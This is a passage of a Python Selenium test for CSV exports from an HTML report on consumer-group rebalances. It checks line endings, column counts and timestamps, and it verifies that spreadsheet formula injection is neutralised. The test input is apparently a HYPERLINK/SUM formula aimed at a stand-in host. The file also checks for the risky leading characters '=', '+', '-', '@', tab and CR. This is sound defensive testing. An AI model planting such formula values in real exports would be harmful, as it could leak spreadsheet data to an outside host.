    browser: webdriver.Chrome, parts: Ingredients, tmp_path: Path
) -> None:
    opened = _open(browser, parts, tmp_path, facts([_FORMULA, "two\r\nlines", "-3"], 30))
    opened.wait_for_charts(_STORM, 7)
    folder = tmp_path / "saved"
    folder.mkdir()
    allowed = {"behavior": "allow", "downloadPath": str(folder)}
    browser.execute_cdp_cmd("Browser.setDownloadBehavior", allowed)
    saves = [
        *opened.driver.find_elements(By.CSS_SELECTOR, f"#rebalances {_SAVE}, {_STORM} {_SAVE}"),
        opened.one("#anomalies .filters button"),
        opened.one("#groups .filters button"),
    ]
    tables = {}
    for count, save in enumerate(saves, 1):
        opened.run("arguments[0].click()", save)
        WebDriverWait(browser, _PATIENCE).until(lambda _, n=count: len(_saved(folder)) == n)
    for path in _saved(folder):
        raw = path.read_bytes()
        assert raw.endswith(b"\r\n")
        assert b"\n" not in raw.replace(b"\r\n", b"")
        tables[path.stem] = list(csv.reader(raw.decode().splitlines(keepends=True), strict=True))
    charts = ["anomalies", "states", "generations", "members", "owners", "offsets", "lag"]
    of_group = "-HYPERLINK-http-x-A1-1-1-SUM-A1"
    names = {f"{of_group}-{chart}" for chart in charts}
    assert set(tables) == {"all-groups-rebalances", *names, "anomalies", "groups"}
    for name, (heading, *rows) in tables.items():
        assert all(len(row) == len(heading) for row in rows), name
        # Nor where a semicolon separates cells.
        cells = [part for row in rows for cell in row for part in (cell, *cell.split(";"))]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    heading, first, *others = tables["groups"]
    named = ["group", "health", "worst anomaly", "state", "the last day", "since (UTC)"]
    assert heading[:6] == named
    kept = _FORMULA.replace("=HYPER", "'=HYPER").replace(";=", ";'=")
    assert first[:2] == [kept, "critical"]
    assert [row[0] for row in others] == ["two\\u{d}\\u{a}lines", "'-3"]
    assert first[5] == "2026-11-21 06:43:20.000"
    assert len(tables["all-groups-rebalances"]) == 1 + 3 * 24
    heading, first, *others = tables[f"{of_group}-generations"]
    assert heading[:4] == ["generation", "began (UTC)", "took (ms)", "cause"]
    assert first[:4] == ["0", "2026-11-21 05:20:00.000", "800", "new_member"]
    assert len(others) == 29
    assert opened.complaints == []


def _saved(folder: Path) -> list[Path]:
    return list(folder.glob("*.csv"))


def _open(browser: webdriver.Chrome, parts: Ingredients, folder: Path, shown: Facts) -> Page:
    path = folder / "report.html"
    path.write_text(page(shown, parts), encoding="utf-8")
    return Page(browser, path.as_uri())


def _nothing() -> Facts:
    return Facts("default", "/lakehouse", 0)


def _brightness(colour: str) -> float:
    parts = colour.removeprefix("rgb(").removesuffix(")").split(",")
    return sum(map(float, parts)) / 3
